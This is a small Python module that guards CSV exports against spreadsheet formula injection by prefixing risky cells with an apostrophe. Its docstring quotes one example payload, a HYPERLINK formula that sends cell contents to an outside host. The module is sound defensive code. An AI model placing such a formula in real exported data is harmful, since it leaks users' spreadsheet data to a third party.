"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Excel, LibreOffice and Google Sheets treat a cell that begins with =, +, - or @ (or a
tab or carriage return before one) as a formula, so text a user typed, such as
=HYPERLINK("http://example.com/?"&A1, "Open"), would run on the reader's machine. A
leading apostrophe makes the spreadsheet show the text as it is (OWASP's advice).
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_row(values) -> list[str]:
    return [csv_cell(value) for value in values]
